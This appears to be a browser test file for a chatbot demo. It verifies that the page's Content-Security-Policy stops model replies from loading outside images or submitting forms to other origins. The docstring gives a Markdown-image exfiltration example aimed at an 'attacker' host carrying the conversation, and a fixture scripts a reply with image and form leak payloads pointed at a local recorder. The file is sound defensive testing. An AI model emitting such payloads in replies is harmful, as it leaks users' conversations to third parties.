"""Model output cannot reach other sites: outside images never load, forms never submit elsewhere.

The Chatbot's sanitizer keeps plain ``<img>``, Markdown images and ``<form>`` elements. The
studio's Content-Security-Policy (``ui.app.CONTENT_SECURITY_POLICY``) is what stops a reply from
loading ``![](https://attacker/?q=<the conversation>)`` or posting a form to another origin. A
recorder HTTP server on another port (another origin) counts every request it gets.
"""

from __future__ import annotations

import time
import urllib.request

import pytest

from dots3_demo.ui.app import CONTENT_SECURITY_POLICY
from support.doubles import ScriptedAsyncLLM, scripted_engine
from tests.browser.conftest import recording, serve

pytestmark = pytest.mark.browser


@pytest.fixture(scope="module")
def recorder():
    with recording() as server:
        yield server


@pytest.fixture(scope="module")
def leak_url(profile, recorder):
    outside = f"http://127.0.0.1:{recorder.server_address[1]}"
    reply = (f"Here you go ![chart]({outside}/md-image.gif?secret=conversation)\n\n"
             f"<img src=\"{outside}/html-image.gif?secret=1\" alt=\"html-image\">\n\n"
             f"<form id=\"leak-form\" action=\"{outside}/form\" method=\"post\">"
             "<input name=\"q\" value=\"secret\"><button>form-button</button></form>\n\nend-of-reply")
    double = ScriptedAsyncLLM([reply[i:i + 40] for i in range(0, len(reply), 40)], delay_s=0.01)
    with serve(profile, scripted_engine(double, max_num_seqs=2)) as url:
        yield url, outside


def test_outside_images_and_forms_in_a_reply_reach_nobody(chromium, leak_url, recorder):
    url, outside = leak_url
    urllib.request.urlopen(f"{outside}/control").read()  # the recorder does record what reaches it
    assert recorder.paths == ["/control"]
    context = chromium.new_context(viewport={"width": 1280, "height": 900})
    page = context.new_page()
    page.set_default_timeout(60_000)
    violations: list[str] = []
    page.on("console", lambda msg: violations.append(msg.text) if "Content Security Policy" in msg.text else None)
    try:
        page.goto(url)
        page.wait_for_selector("#chat-input textarea")
        policies = page.locator('meta[http-equiv="Content-Security-Policy"]').evaluate_all(
            "els => els.map(e => e.content)")
        page.locator("#chat-input textarea").fill("show me")
        page.locator("#chat-send").click()
        page.wait_for_function("() => document.querySelector('#chatbot').innerText.includes('end-of-reply')")
        # The elements are in the page (the sanitizer keeps them) …
        assert page.locator(f'#chatbot img[src^="{outside}"]').count() >= 1
        form = page.locator("#chatbot form")
        if form.count():  # … and submitting the form is refused by the policy
            page.evaluate("() => document.querySelector('#chatbot form').requestSubmit()")
        time.sleep(1.0)
        assert page.url.rstrip("/") == url
    finally:
        context.close()
    assert recorder.paths == ["/control"], recorder.paths
    assert policies == [CONTENT_SECURITY_POLICY]
    assert any("img-src" in v for v in violations), violations
